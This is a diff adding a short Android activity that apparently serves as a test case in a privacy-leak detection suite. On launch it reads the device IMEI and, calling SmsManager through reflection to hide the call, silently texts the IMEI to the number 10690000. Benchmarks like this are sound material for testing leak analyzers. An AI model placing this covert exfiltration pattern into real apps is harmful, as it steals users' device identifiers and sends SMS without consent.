@@ -1,0 +1,23 @@
+package cn.privlens.suite.sender_looked_up;
+
+import android.app.Activity;
+import android.app.PendingIntent;
+import android.os.Bundle;
+import android.telephony.TelephonyManager;
+import java.lang.reflect.Method;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        String 编号 = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
+        try {
+            Class<?> type = Class.forName("android.telephony.SmsManager");
+            Object sender = type.getMethod("getDefault").invoke(null);
+            Method send = type.getMethod("sendTextMessage", String.class, String.class, String.class, PendingIntent.class, PendingIntent.class);
+            send.invoke(sender, "10690000", null, 编号, null, null);
+        } catch (ReflectiveOperationException e) {
+            setTitle("𠮷");
+        }
+    }
+}
